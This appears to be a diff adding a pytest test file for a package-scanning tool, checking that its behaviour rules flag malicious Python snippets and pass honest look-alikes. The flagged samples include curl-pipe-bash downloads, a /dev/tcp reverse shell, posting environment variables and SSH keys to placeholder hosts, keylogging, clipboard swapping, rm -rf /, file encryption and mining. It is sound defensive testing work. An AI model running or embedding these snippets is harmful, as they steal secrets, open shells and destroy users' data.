@@ -1,0 +1,188 @@
+"""Each rule on what it is for, and on what honest packages do that looks like it."""
+
+# ruff: noqa: E501  # programs on one line
+
+import pytest
+
+from package_gate.scanners.behaviour.rules import RULES, behaviours
+
+HARMLESS = "cHJpbnQoJ2hhcm1sZXNzIGZpbGxlcicpCg=="
+
+DOES: list[tuple[str, str]] = [
+    ("runs-downloaded-code", "import requests\nexec(requests.get('https://a.example').text)"),
+    (
+        "runs-downloaded-code",
+        "from urllib.request import urlopen as get\ndef f():\n    return get('https://a.example')\n"
+        "code = f().read()\nrun = eval\nrun(code)",
+    ),
+    (
+        "runs-downloaded-code",
+        "import subprocess, urllib.request\nurllib.request.urlretrieve('http://192.0.2.1/a', '/tmp/a')"
+        "\nsubprocess.Popen(['sh', '/tmp/a'])",
+    ),
+    (
+        "runs-downloaded-code",
+        "import requests\nwith open('late.py', 'w') as f:\n"
+        "    f.write(requests.get('https://a.example').text)",
+    ),
+    ("runs-downloaded-code", "import os\nos.system('curl -s http://192.0.2.1/i.sh | bash')"),
+    ("runs-downloaded-code", "import pickle, httpx\npickle.loads(httpx.get('https://a').content)"),
+    ("runs-decoded-code", f"import base64\nexec(base64.b64decode('{HARMLESS}'))"),
+    ("runs-decoded-code", "exec(''.join(chr(n) for n in [112, 114]))"),
+    ("runs-decoded-code", "eval(bytes(b ^ 7 for b in b'abc'))"),
+    (
+        "runs-decoded-code",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
+        f"\"import base64;exec(base64.b64decode('{HARMLESS}'))\"])",
+    ),
+    ("runs-decoded-code", f"exec(\"import base64;exec(base64.b64decode('{HARMLESS}'))\")"),
+    ("runs-encrypted-code", "__pyarmor__(__name__, __file__, b'...')"),
+    ("hides-what-it-calls", "o = __import__('so'[::-1])\ngetattr(o, 'sys' + 'tem')('ls')"),
+    ("hides-what-it-calls", "getattr(globals()['__builtins__'], 'ex' + 'ec')('1')"),
+    ("hides-what-it-calls", "().__class__.__base__.__subclasses__()"),
+    (
+        "installs-another-package",
+        "import os\nos.system('pip install --index-url http://192.0.2.1 x')",
+    ),
+    (
+        "opens-a-reverse-shell",
+        "import os, socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)",
+    ),
+    ("opens-a-reverse-shell", "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')"),
+    (
+        "runs-a-hidden-command",
+        "import os\nos.system('powershell -enc cABvAHcAZQByAHMAaABlAGwAbAA=')",
+    ),
+    (
+        "starts-a-bundled-program",
+        "import os, subprocess\nsubprocess.Popen([os.path.dirname(__file__) + '/a'],"
+        " stdout=subprocess.DEVNULL)",
+    ),
+    (
+        "starts-again-by-itself",
+        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+    ),
+    (
+        "starts-again-by-itself",
+        "import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\X\\CurrentVersion\\Run')",
+    ),
+    (
+        "sends-secrets",
+        "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))",
+    ),
+    (
+        "sends-secrets",
+        "import pathlib, requests\nkeys = {}\n"
+        "keys['a'] = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"
+        "requests.post('https://a.example', data=keys)",
+    ),
+    (
+        "sends-host-facts",
+        "import getpass, socket\nsocket.gethostbyname(getpass.getuser() + '.a.example')",
+    ),
+    (
+        "sends-what-it-intercepts",
+        "import requests\ndef hook(self, *a, **kw):\n"
+        "    requests.post('https://a.example', json=kw)\nrequests.Session.send = hook",
+    ),
+    (
+        "sends-the-screen",
+        "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\n"
+        "ImageGrab.grab().save(b, 'PNG')\nrequests.post('https://a.example', data=b.getvalue())",
+    ),
+    ("listens-to-the-keyboard", "from pynput.keyboard import Listener\nListener(on_press=print)"),
+    ("swaps-the-clipboard", "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('x')"),
+    ("runs-machine-code", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)"),
+    (
+        "destroys-files",
+        "import os, shutil, threading\n"
+        "threading.Thread(target=shutil.rmtree, args=(os.path.expanduser('~'),)).start()",
+    ),
+    ("destroys-files", "import os\nos.system('rm -rf / --no-preserve-root')"),
+    (
+        "encrypts-files",
+        "import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(b'')\n"
+        "path = os.path.expanduser('~/Documents/a')\n"
+        "open(path, 'wb').write(box.encrypt(open(path, 'rb').read()))",
+    ),
+    (
+        "changes-other-packages",
+        "import site\nfor folder in site.getsitepackages():\n    open(folder + '/a.py', 'a').write('')",
+    ),
+    ("publishes-packages", "import subprocess\nsubprocess.run('twine upload dist/*', shell=True)"),
+    ("mines", "import os\nos.system('./x -o stratum+tcp://pool.example:3333')"),
+]
+
+HONEST = [
+    # It waits to be called.
+    "import requests\ndef update():\n    exec(requests.get('https://a.example').text)",
+    "import functools, os\n@functools.cache\ndef f():\n    os.system('curl http://a.example | sh')",
+    "import os\nif __name__ == '__main__':\n    os.system('curl http://a.example | sh')",
+    # What runs is known, or the package's own.
+    "exec(open('version.py').read())",
+    "exec('x = 1')",
+    "import os\ngetattr(os, 'system')",
+    "import importlib\nimportlib.import_module('.' + name, __name__)",
+    # It looks around and keeps it to itself.
+    "import os, platform, socket\nHOST = socket.gethostname()\nTOKEN = os.environ['API_TOKEN']",
+    "import socket\nsocket.gethostbyname(socket.gethostname())",
+    "import os\nCONFIG = open(os.path.expanduser('~/.aws/config')).read()",
+    "import requests\nrequests.get('https://a.example/languages.json').json()",
+    "import pyperclip\nTEXT = pyperclip.paste()",
+    # It builds itself: what it downloads is unpacked, and what it starts looks for a compiler.
+    "import subprocess, urllib.request\nurllib.request.urlretrieve('https://a.example/z.tgz', 'z.tgz')"
+    "\nsubprocess.run(['tar', 'xf', 'z.tgz'])",
+    "import subprocess\nsubprocess.check_output(['gcc', '--version'])",
+    "print('Install Rust first: curl https://sh.example | sh')",
+    "import shutil\nshutil.rmtree('build')",
+    "import os\nos.system('pip install wheel')",
+]
+
+
+@pytest.mark.parametrize(("rule", "source"), DOES)
+def test_what_the_rule_is_for(rule: str, source: str) -> None:
+    assert rule in {each.rule for each in behaviours(source, whole=False)}
+
+
+def test_every_rule_has_an_example() -> None:
+    assert RULES.keys() - {rule for rule, _ in DOES} == {"acts-at-every-start"}
+
+
+def test_what_runs_at_every_start_of_python_has_no_business_with_the_network() -> None:
+    source = "import urllib.request\nurllib.request.urlopen('https://a.example')"
+
+    [found] = behaviours(source, whole=True, at_start=True)
+
+    assert (found.rule, found.line) == ("acts-at-every-start", 2)
+    assert found.code == "urllib.request.urlopen('https://a.example')"
+    assert behaviours(source, whole=True) == []
+
+
+@pytest.mark.parametrize("source", HONEST)
+def test_what_honest_packages_do(source: str) -> None:
+    assert behaviours(source, whole=False) == []
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "this is no Python",
+        "\0",
+        "(" * 10_000,
+        "x = " + "-" * 50_000 + "1",
+        "a = b\nb = a\nexec(a + b)",
+        "def f(x):\n    return f(f(x))\nexec(f(1))",
+        "\n".join(f"a{n} = a{n + 1} + a{n + 1}" for n in range(100)) + "\nexec(a0)",
+        "\n".join(f"a{n} = [a{n + 1}, a{n + 1}]" for n in range(100)) + "\nexec(str(a0))",
+        "\n".join(f"a{n} = [b for b in a{n + 1} for c in a{n + 1}]" for n in range(60))
+        + "\nexec(a0)",
+        "exec(" + "lambda x: " * 90 + "1)",
+        "import os\nos.system('" + "curl " * 5000 + "')",
+        "import os\nos.system('" + "*" * 50_000 + "')",
+        "f = open\n" + "f = f(f)\n" * 500 + "f.write(f)",
+    ],
+    ids=range(13),
+)
+@pytest.mark.timeout(60)
+def test_hostile_code_is_read_in_bounded_time(source: str) -> None:
+    behaviours(source, whole=False)
